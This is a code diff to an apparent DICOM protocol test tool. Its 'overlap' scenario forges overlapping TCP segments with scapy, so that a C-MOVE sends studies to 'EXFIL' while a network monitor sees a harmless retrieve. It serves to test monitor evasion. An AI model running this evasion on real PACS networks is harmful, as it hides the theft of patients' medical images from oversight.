@@ -7,11 +7,13 @@ It speaks the Upper Layer protocol itself (PS3.8), so it can send what no stock 
   split          every PDU (A-ASSOCIATE-RQ, each P-DATA-TF, A-RELEASE-RQ) written as two TCP
                  segments, the first holding the first K bytes of its 6-byte header
                  (TCP_NODELAY, a pause between the writes); one association per K in 0..5
-  overlap        a C-MOVE to EXFIL whose P-DATA-TF segment is followed by a second copy of the
-                 same sequence range with different bytes, injected from a raw socket: the
-                 copy names the attacker's own AE title (a move to oneself, the everyday
-                 retrieve). The receiving Linux kernel keeps the first copy: the SCP moves to
-                 EXFIL; a monitor that kept the last copy would see a harmless retrieve
+  overlap        a C-MOVE to EXFIL and, from a raw socket, a second copy of part of its TCP
+                 sequence range with different bytes naming the attacker's own AE title (a
+                 move to oneself, the everyday retrieve): --mode held (both copies arrive
+                 out of order, the real one first, then the kernel fills the hole) or
+                 --mode retransmit (the decoy copy after the PACS received the real one in
+                 order). Linux keeps the first copy both times: the SCP moves to EXFIL; a
+                 monitor that kept the last copy would see a harmless retrieve
 
 PDUs and command sets are encoded by hand from PS3.7/PS3.8 (command sets with pydicom, in
 implicit VR little endian); everything else about them is what the standard asks. It
@@ -199,10 +201,17 @@ class Peer:
         data: bytes | None,
         control: int,
         after_command: object = None,
+        before_command: object = None,
+        framed: bool = False,
     ) -> list[int]:
-        """Send one request (command PDV control byte ``control``); return every status."""
+        """Send one request (command PDV control byte ``control``); return every status.
+
+        ``cmd`` is the command set, or (``framed``) the whole P-DATA-TF PDU holding it.
+        """
         cid = CTX[sop_class]
-        cmd_pdu = pdata(cid, control, cmd)
+        cmd_pdu = cmd if framed else pdata(cid, control, cmd)
+        if callable(before_command):
+            before_command(cmd_pdu)
         self.send(cmd_pdu, f"{name} command (control 0x{control:02x})")
         if callable(after_command):
             after_command(cmd_pdu)
@@ -301,7 +310,18 @@ def split(a: argparse.Namespace) -> None:
 
 
 def overlap(a: argparse.Namespace) -> None:
-    """A C-MOVE to ``move_dest``; a copy of its P-DATA segment naming ``decoy`` follows it."""
+    """A C-MOVE to ``move_dest`` and a copy of part of its P-DATA naming ``decoy``.
+
+    held:        before the kernel sends the PDU, two segments covering its bytes from
+                 offset HOLE on are injected: first with the real bytes, then the decoy;
+                 both arrive out of order (bytes 0..HOLE-1 are missing), then the kernel's
+                 own segment fills the hole. Linux queues the first out-of-order copy, drops
+                 the identical range that follows (tcp_data_queue_ofo: "all the bits are
+                 present"), and delivers the real bytes.
+    retransmit:  after the kernel sent the PDU (and the PACS received it in order), a copy
+                 of the same sequence range naming the decoy is injected; Linux drops it as
+                 already received.
+    """
     from scapy.all import IP, TCP, AsyncSniffer, conf, send  # noqa: PLC0415 (root only)
 
     conf.verb = 0
@@ -311,12 +331,7 @@ def overlap(a: argparse.Namespace) -> None:
 
     def mine(pkt: object) -> bool:
         p = peer_box.get("peer")
-        return (
-            p is not None
-            and pkt.haslayer(TCP)  # type: ignore[attr-defined]
-            and pkt[TCP].sport == p.local[1]  # type: ignore[index]
-            and len(bytes(pkt[TCP].payload)) > 0  # type: ignore[index]
-        )
+        return p is not None and pkt.haslayer(TCP) and pkt[TCP].sport == p.local[1]  # type: ignore[attr-defined,index]
 
     sniffer = AsyncSniffer(iface=a.iface, filter=f"tcp and dst host {a.host} and dst port {a.port}",
                            lfilter=mine, prn=seen.append, store=False)  # fmt: skip
@@ -324,33 +339,51 @@ def overlap(a: argparse.Namespace) -> None:
     time.sleep(0.5)
     peer = Peer(a.host, a.port)
     peer_box["peer"] = peer
-    log(f"connection {peer.local[0]}:{peer.local[1]} -> {a.host}:{a.port}")
+    log(f"connection {peer.local[0]}:{peer.local[1]} -> {a.host}:{a.port} mode={a.mode}")
     peer.associate(a.called, a.calling, ext_neg(FIND, b"\x01\x01\x00\x00"))
     # Both AE titles padded to 16 characters (PS3.5 6.2), so the copies have one length.
     mid = msg(peer)
-    real = move_cmd(mid, a.move_dest.ljust(16))
-    decoy = move_cmd(mid, a.decoy.ljust(16))
+    real = pdata(CTX[MOVE], 0x03, move_cmd(mid, a.move_dest.ljust(16)))
+    decoy = pdata(CTX[MOVE], 0x03, move_cmd(mid, a.decoy.ljust(16)))
     if len(decoy) != len(real) or decoy == real:
         raise SystemExit("decoy must differ and keep the length")
 
-    def inject(cmd_pdu: bytes) -> None:
+    def forge(template: object, seq: int, payload: bytes) -> object:
+        t = template
+        return IP(src=t[IP].src, dst=t[IP].dst, ttl=t[IP].ttl) / TCP(  # type: ignore[index]
+            sport=t[TCP].sport, dport=t[TCP].dport, seq=seq, ack=t[TCP].ack,  # type: ignore[index]
+            flags="PA", window=t[TCP].window) / payload  # type: ignore[index]  # fmt: skip
+
+    def before(_: bytes) -> None:
+        if a.mode != "held":
+            return
+        time.sleep(0.3)  # the ACK of the A-ASSOCIATE-AC is out: it carries snd_nxt and ack
+        last = max(seen, key=lambda p: (p[TCP].seq + len(bytes(p[TCP].payload))) % 2**32)  # type: ignore[index]
+        snd_nxt = (last[TCP].seq + len(bytes(last[TCP].payload))) % 2**32  # type: ignore[index]
+        hole = a.hole
+        send(forge(last, (snd_nxt + hole) % 2**32, real[hole:]))
+        time.sleep(0.02)
+        send(forge(last, (snd_nxt + hole) % 2**32, decoy[hole:]))
+        time.sleep(0.02)
+        log(f"injected out of order at seq {snd_nxt}+{hole}: {len(real) - hole} bytes naming "
+            f"{a.move_dest!r}, then the same range naming {a.decoy!r}")  # fmt: skip
+
+    def after(cmd_pdu: bytes) -> None:
+        if a.mode != "retransmit":
+            return
         deadline = time.time() + 5
         while time.time() < deadline:
             for pkt in list(seen):
-                payload = bytes(pkt[TCP].payload)  # type: ignore[index]
-                if payload == cmd_pdu:
-                    fake = IP(src=pkt[IP].src, dst=pkt[IP].dst, ttl=pkt[IP].ttl) / TCP(  # type: ignore[index]
-                        sport=pkt[TCP].sport, dport=pkt[TCP].dport, seq=pkt[TCP].seq,  # type: ignore[index]
-                        ack=pkt[TCP].ack, flags="PA", window=pkt[TCP].window  # type: ignore[index]
-                    ) / cmd_pdu.replace(real, decoy)  # fmt: skip
-                    send(fake)
-                    log(f"injected a copy of seq {pkt[TCP].seq} ({len(payload)} bytes) naming "  # type: ignore[index]
+                if bytes(pkt[TCP].payload) == cmd_pdu:  # type: ignore[index]
+                    send(forge(pkt, pkt[TCP].seq, decoy))  # type: ignore[index]
+                    log(f"injected a copy of seq {pkt[TCP].seq} ({len(cmd_pdu)} bytes) naming "  # type: ignore[index]
                         f"{a.decoy!r} instead of {a.move_dest!r}")  # fmt: skip
                     return
             time.sleep(0.002)
         raise SystemExit("the C-MOVE segment was never seen on the wire")
 
-    peer.request("C-MOVE", MOVE, real, study_key(ds.StudyInstanceUID), 0x03, after_command=inject)
+    peer.request("C-MOVE", MOVE, real, study_key(ds.StudyInstanceUID), 0x03,
+                 before_command=before, after_command=after, framed=True)  # fmt: skip
     peer.release()
     sniffer.stop()
 
@@ -367,6 +400,8 @@ def main() -> None:
     p.add_argument("--decoy", default="EVIL-SCU")
     p.add_argument("--iface", default="eth0")
     p.add_argument("--commands", default="echo,find,move,store")
+    p.add_argument("--mode", choices=["held", "retransmit"], default="held")
+    p.add_argument("--hole", type=int, default=12, help="held: bytes left missing before")
     a = p.parse_args()
     {"reserved-bits": reserved_bits, "split": split, "overlap": overlap}[a.scenario](a)
 
